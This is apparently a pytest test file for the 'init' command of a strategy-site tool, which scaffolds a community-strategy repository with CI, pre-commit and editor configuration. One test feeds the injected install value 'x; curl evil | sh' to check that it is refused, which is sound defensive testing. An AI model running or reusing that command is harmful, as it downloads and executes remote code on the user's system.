"""strategy-site init: a new partnership's repository, whose skeleton check flags only for its placeholders."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from strategy_site.check import check_project
from strategy_site.cli import main
from strategy_site.commands.init import FILES, init
from strategy_site.findings import Severity

TODAY = dt.date(2026, 11, 24)


def test_init_writes_every_document_kind_and_the_repository_files(tmp_path: Path) -> None:
    written = init(tmp_path / "fernley", "Fernley Partnership", "Borough of Fernley", nrf=True, today=TODAY)

    created = {path.relative_to(tmp_path / "fernley").as_posix() for path in written.created}
    assert set(FILES) <= created
    assert "schemas/partnership.schema.json" in created and written.kept == []


def test_the_skeleton_gives_only_placeholder_findings(tmp_path: Path) -> None:
    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=True, today=TODAY)

    _, findings, _ = check_project(tmp_path / "strategy_src", TODAY)

    assert findings and {f.code for f in findings if f.severity is Severity.ERROR} == {"SS303"}
    # Besides its placeholders, warnings of what the partnership has still to agree: a target beneath its priority
    # (SS424) and in its renewal strategy (SS419), and the renewal strategy itself (SS420).
    assert {f.code for f in findings if f.severity is Severity.WARNING} == {"SS419", "SS420", "SS424"}


def test_outside_the_fund_there_is_no_renewal_strategy_and_still_only_placeholders(tmp_path: Path) -> None:
    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)

    _, findings, _ = check_project(tmp_path / "strategy_src", TODAY)

    assert not (tmp_path / "strategy_src/neighbourhood-renewal-strategy.md").exists()
    assert {f.code for f in findings} == {"SS303", "SS424"}  # SS424: the priority's target is still to agree


def test_a_name_with_quotes_and_colons_is_written_as_valid_yaml(tmp_path: Path) -> None:
    init(tmp_path, 'Fernley: "Together" <2026>', "Borough of Fernley", nrf=False, today=TODAY)

    project, _, _ = check_project(tmp_path / "strategy_src", TODAY)

    assert project.partnership is not None and project.partnership.name == 'Fernley: "Together" <2026>'


def test_init_never_overwrites_a_file(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("Our own readme\n", encoding="utf-8")

    written = init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)

    assert (tmp_path / "README.md").read_text(encoding="utf-8") == "Our own readme\n"
    assert written.kept == [tmp_path / "README.md"]


def test_init_refuses_a_folder_that_already_holds_a_partnership(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "strategy_src").mkdir()
    (tmp_path / "strategy_src/partnership.yml").write_text("name: Ravensholt Together\n", encoding="utf-8")

    assert main(["init", str(tmp_path), "--name", "Fernley Partnership", "--area", "Borough of Fernley"]) == 2

    assert "already holds a partnership" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["strategy_src"]


def test_init_refuses_a_name_on_several_lines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", str(tmp_path / "x"), "--name", "Fernley\nPartnership", "--area", "Fernley"]) == 2
    assert capsys.readouterr().err == 'strategy-site: --name must be words on one line, such as --name "Fernley Partnership"\n'


def test_the_ci_and_readme_install_what_init_is_told_to(tmp_path: Path) -> None:
    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY,
         install="git+https://git.fernley.example/strategy-site.git@v0.1.0")

    workflow = (tmp_path / ".github/workflows/strategy-site.yml").read_text(encoding="utf-8")
    assert 'pip install "git+https://git.fernley.example/strategy-site.git@v0.1.0"' in workflow
    assert 'pip install "git+https://git.fernley.example/strategy-site.git@v0.1.0"' in (tmp_path / ".gitlab-ci.yml").read_text(encoding="utf-8")


def test_an_install_requirement_that_could_run_a_command_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", str(tmp_path), "--name", "Fernley", "--area", "Fernley", "--install", "x; curl evil | sh"]) == 2
    assert "--install must be one pip requirement" in capsys.readouterr().err


def test_the_editor_task_reads_every_finding_check_prints_as_a_problem(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import json
    import re

    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=True, today=TODAY)
    pattern = json.loads((tmp_path / ".vscode/tasks.json").read_text(encoding="utf-8"))["tasks"][0]["problemMatcher"]["pattern"]
    monkeypatch.chdir(tmp_path)  # the task runs in the repository's folder
    _, findings, _ = check_project(Path("strategy_src"), TODAY)
    main(["check", "strategy_src"])

    matched = [re.match(pattern["regexp"], line) for line in capsys.readouterr().out.splitlines()]
    problems = [(m.group(pattern["file"]), int(m.group(pattern["line"])), m.group(pattern["code"])) for m in matched if m]
    assert problems == [(f.path, f.line, f.code) for f in findings]


def test_the_pre_commit_hook_installs_what_init_is_told_to_in_an_environment_of_its_own(tmp_path: Path) -> None:
    import yaml

    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY, install="dist/strategy_site-0.1.0-py3-none-any.whl")

    [hook] = yaml.safe_load((tmp_path / ".pre-commit-config.yaml").read_text(encoding="utf-8"))["repos"][0]["hooks"]
    # language: system would need strategy-site on PATH, which it is not while .venv is not active.
    assert (hook["language"], hook["additional_dependencies"]) == ("python", ["dist/strategy_site-0.1.0-py3-none-any.whl"])


def test_a_name_with_a_colon_and_a_hash_leaves_only_placeholder_findings(tmp_path: Path) -> None:
    init(tmp_path, "Fernley: Together #1", "Borough of Fernley", nrf=False, today=TODAY)

    _, findings, _ = check_project(tmp_path / "strategy_src", TODAY)

    assert {f.code for f in findings} == {"SS303", "SS424"}


def test_a_plain_name_stays_plain_in_the_strategy_title_an_officer_edits(tmp_path: Path) -> None:
    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)

    lines = (tmp_path / "strategy_src/community-strategy.md").read_text(encoding="utf-8").splitlines()

    assert lines[1] == "title: TODO the strategy's title, for example Fernley Partnership Community Strategy 2026 to 2036"


def test_the_next_steps_quote_a_folder_with_spaces_so_they_can_be_pasted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from strategy_site.commands.init import next_steps

    assert next_steps(Path("our partnership"), "Fernley Partnership") == (
        "\nStarted Fernley Partnership in our partnership. Next, write the TODO lines in 'our partnership/strategy_src': "
        "check lists each one until it is written, then build publishes the site.\n\n"
        "    strategy-site check 'our partnership/strategy_src'\n    strategy-site build 'our partnership'")


def test_the_next_steps_in_the_current_folder_build_it_without_a_path() -> None:
    from strategy_site.commands.init import next_steps

    # Not "strategy-site build ..", which reads as the folder above.
    assert next_steps(Path("."), "Fernley Partnership").splitlines()[-2:] == ["    strategy-site check strategy_src", "    strategy-site build"]


def test_the_officers_readme_shows_a_name_with_markdown_characters_as_written(tmp_path: Path) -> None:
    init(tmp_path, "O'Brien & Sons \"Trust\" <b>", "Borough of *Fernley*", nrf=False, today=TODAY)

    lines = (tmp_path / "README.md").read_text(encoding="utf-8").splitlines()

    assert lines[0] == "# O'Brien \\& Sons \"Trust\" \\<b\\>: community strategy"
    assert lines[3].startswith("Borough of \\*Fernley\\*, as documents")


def test_the_officers_readme_indents_the_list_of_documents(tmp_path: Path) -> None:
    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=True, today=TODAY)

    text = (tmp_path / "README.md").read_text(encoding="utf-8")

    assert "`community-strategy.md`,\n  `neighbourhood-renewal-strategy.md`, `action-plans/`" in text


def test_init_refuses_an_empty_folder_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)

    with pytest.raises(SystemExit) as exited:
        main(["init", "", "--name", "Fernley Partnership", "--area", "Borough of Fernley"])

    assert exited.value.code == 2 and list(tmp_path.iterdir()) == []
    assert "give the folder to start the partnership in, such as fernley, or . for this one" in capsys.readouterr().err


def test_init_refuses_a_file_for_its_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "fernley").write_text("notes\n", encoding="utf-8")

    assert main(["init", str(tmp_path / "fernley"), "--name", "Fernley Partnership", "--area", "Borough of Fernley"]) == 2

    assert capsys.readouterr().err == (f"strategy-site: '{tmp_path / 'fernley'}' is a file, not a folder: give a new folder, "
                                       "or one to add the partnership to\n")


def test_gitlab_keeps_the_completeness_report_when_check_finds_problems(tmp_path: Path) -> None:
    import yaml

    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)
    ci = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text(encoding="utf-8"))

    # One script stops at its first failing line: the report has a job of its own, beside check.
    assert ci["check"]["script"] == ["strategy-site check strategy_src"]
    assert (ci["report"]["stage"], ci["report"]["script"]) == ("check", ["strategy-site report strategy_src --out reports --fail-under 60"])
    assert ci["report"]["artifacts"]["when"] == "always"


def test_a_repository_without_code_scanning_still_passes_the_github_check(tmp_path: Path) -> None:
    import yaml

    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)
    workflow = yaml.safe_load((tmp_path / ".github/workflows/strategy-site.yml").read_text(encoding="utf-8"))

    [upload] = [step for step in workflow["jobs"]["check"]["steps"] if step.get("uses", "").startswith("github/codeql-action/upload-sarif")]
    assert upload["continue-on-error"] is True


def test_the_skeleton_claims_no_money_an_officer_has_not_written(tmp_path: Path) -> None:
    # "amount: 0" is no placeholder check can flag: it would be published as £0, and count as resources in the report.
    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)

    project, _, _ = check_project(tmp_path / "strategy_src", TODAY)

    assert [action.resources for plan in project.action_plans for action in plan.actions] == [[]]


def test_the_next_steps_name_the_program_as_the_officer_typed_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    # The README starts with `.venv/bin/strategy-site init ...`: a bare `strategy-site check` is not found there.
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.argv", [".venv/bin/strategy-site", "init", "fernley"])

    assert main(["init", "fernley", "--name", "Fernley Partnership", "--area", "Borough of Fernley"]) == 0

    assert capsys.readouterr().out.splitlines()[-2:] == ["    .venv/bin/strategy-site check fernley/strategy_src",
                                                         "    .venv/bin/strategy-site build fernley"]


def test_init_refuses_a_folder_whose_partnership_is_written_as_yaml(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # check reads partnership.yaml as the partnership: a partnership.yml beside it would make two (SS109).
    (tmp_path / "strategy_src").mkdir()
    (tmp_path / "strategy_src/partnership.yaml").write_text("name: Ravensholt Together\n", encoding="utf-8")

    assert main(["init", str(tmp_path), "--name", "Fernley Partnership", "--area", "Borough of Fernley"]) == 2

    assert capsys.readouterr().err == (f"strategy-site: '{tmp_path}' already holds a partnership (strategy_src/partnership.yaml): "
                                       "nothing was written\n")
    assert sorted(p.name for p in (tmp_path / "strategy_src").iterdir()) == ["partnership.yaml"]


def test_the_editor_task_runs_the_virtual_environments_strategy_site_on_windows_too(tmp_path: Path) -> None:
    import json

    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)

    [task] = json.loads((tmp_path / ".vscode/tasks.json").read_text(encoding="utf-8"))["tasks"]

    # A Windows virtual environment keeps its programs in Scripts\, not bin/.
    assert task["windows"] == {"command": "${workspaceFolder}\\.venv\\Scripts\\strategy-site.exe"}


def test_git_ignores_the_partners_returns_exported_and_filled_in(tmp_path: Path) -> None:
    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY)

    assert "/returns/" in (tmp_path / ".gitignore").read_text(encoding="utf-8").splitlines()
